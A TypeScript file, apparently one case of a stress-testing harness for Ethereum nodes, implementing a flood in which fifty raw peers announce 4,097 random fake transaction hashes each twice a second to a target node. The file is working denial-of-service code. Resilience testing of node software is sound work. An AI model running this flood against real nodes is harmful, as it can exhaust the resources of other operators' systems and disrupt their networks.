import { randomBytes } from 'node:crypto'
import { writeItem } from '@ethwire/rlp-codec'
import type { Attack } from '../attack.ts'
import { addresses, connectRawUntil, ethCode, uint } from '../raw-peer.ts'
import { pause } from './pace.ts'

const announcing = 50
const perMessage = 4_097
const everyMs = 500

/** Case 44: fifty peers announce 4,097 transactions each twice a second. */
export const announcements: Attack = async (target, signal) => {
  const did = { peers: 0, announcements: 0, megabytes: 0 }
  const sizes = Array.from({ length: perMessage }, () => uint(110))
  const announce = async (from: string): Promise<void> => {
    const peer = await connectRawUntil(target, { from }, signal)
    if (peer === undefined) return
    did.peers++
    while (!signal.aborted && !peer.socket.destroyed) {
      const hashes = Array.from({ length: perMessage }, () => randomBytes(32))
      const payload = writeItem([new Uint8Array(perMessage).fill(2), sizes, hashes])
      peer.send(ethCode.newPooledTransactionHashes, payload)
      did.announcements += perMessage
      did.megabytes += payload.length / 1e6
      await pause(everyMs, signal)
    }
    peer.close()
  }
  await Promise.all(addresses(announcing).map(announce))
  return { did, claims: [] }
}
